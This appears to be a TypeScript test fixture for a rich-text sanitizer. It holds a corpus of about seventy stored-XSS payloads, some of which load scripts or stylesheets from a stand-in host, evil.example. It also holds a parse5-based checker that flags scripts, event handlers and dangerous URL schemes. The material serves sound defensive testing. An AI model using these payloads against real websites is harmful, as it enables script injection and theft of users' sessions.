import { parseFragment } from 'parse5';
import { richTextOptions } from '../../src/lib/rich-text';

/** Classic stored-XSS payloads: scripts, handlers, dangerous URLs in many encodings, svg/math tricks, CSS, frames, forms. */
export const xssCorpus: string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/xss.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1)//<</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" ONERROR="alert(1)">',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  '<img """><script>alert(1)</script>">',
  '<img src=javascript:alert(1)>',
  '<IMG SRC=`javascript:alert(1)`>',
  '<img src="jav&#x09;ascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="data:image/png;base64,iVBORw0KGgo=">',
  '<img srcset="javascript:alert(1) 1x">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
  '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
  '<a href=" &#14;  javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java&Tab;script:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="jAvAsCrIpT&colon;alert&lpar;1&rpar;">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="java<!-- -->script:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="#" onclick="alert(1)">x</a>',
  '<div/onmouseover=\'alert(1)\'>x</div>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><use href="data:image/svg+xml,&lt;svg id=x xmlns=http://www.w3.org/2000/svg&gt;&lt;image href=1 onerror=alert(1) /&gt;&lt;/svg&gt;#x" />',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math href="javascript:alert(1)">click</math>',
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<form action="javascript:alert(1)"><input type=submit></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<isindex action="javascript:alert(1)" type=image>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="width: expression(alert(1))">x</div>',
  '<p style="color: red; background-image: url(\'javascript:alert(1)\')">x</p>',
  '<div style="-moz-binding:url(http://evil.example/xss.xml#xss)">x</div>',
  '<xss style="behavior: url(xss.htc);">x</xss>',
  '<p style="color: expression(alert(1))">x</p>',
  '<style>@import "http://evil.example/x.css";</style>',
  '<link rel=stylesheet href="javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x</td></tr></table>',
  '<template><script>alert(1)</script></template>',
  '<textarea><script>alert(1)</script></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<a href="//evil.example/">protocol-relative</a>',
  '<img src="//evil.example/x.png" onload="alert(1)">',
  '<a href="https://ok.example/" target="_top" onmouseover="alert(1)">x</a>',
];

const URL_ATTRIBUTES = new Set(['href', 'src', 'action', 'formaction', 'xlink:href', 'srcset', 'background', 'poster', 'data', 'cite', 'lowsrc', 'dynsrc']);
const ALLOWED = new Set(richTextOptions.allowedTags as string[]);

interface Node {
  nodeName: string;
  tagName?: string;
  attrs?: { name: string; value: string; prefix?: string }[];
  childNodes?: Node[];
  content?: Node;
}

/** Every problem a browser would find in this markup, parsed the way a browser parses it (parse5). */
export function xssFindings(html: string): string[] {
  const findings: string[] = [];
  const visit = (node: Node) => {
    if (node.tagName) {
      const tag = node.tagName.toLowerCase();
      if (tag === 'script') findings.push('script element');
      if (!ALLOWED.has(tag)) findings.push(`element <${tag}>`);
      for (const attr of node.attrs ?? []) {
        const name = (attr.prefix ? `${attr.prefix}:${attr.name}` : attr.name).toLowerCase();
        // eslint-disable-next-line no-control-regex
        const value = attr.value.replace(/[\u0000-\u0020]/g, '').toLowerCase();
        if (name.startsWith('on')) findings.push(`handler ${name}`);
        if (URL_ATTRIBUTES.has(name) && /(javascript|vbscript|data):/.test(value)) findings.push(`${name}=${value}`);
        if (URL_ATTRIBUTES.has(name) && value.startsWith('//')) findings.push(`protocol-relative ${name}`);
        if (name === 'style' && /url\(|expression|javascript|behavior|binding|@import/.test(value)) findings.push(`style ${value}`);
        if (name === 'srcdoc') findings.push('srcdoc');
      }
    }
    node.childNodes?.forEach(visit);
    if (node.content) visit(node.content);
  };
  visit(parseFragment(html) as unknown as Node);
  if (/<\s*script/i.test(html)) findings.push('raw <script');
  return findings;
}
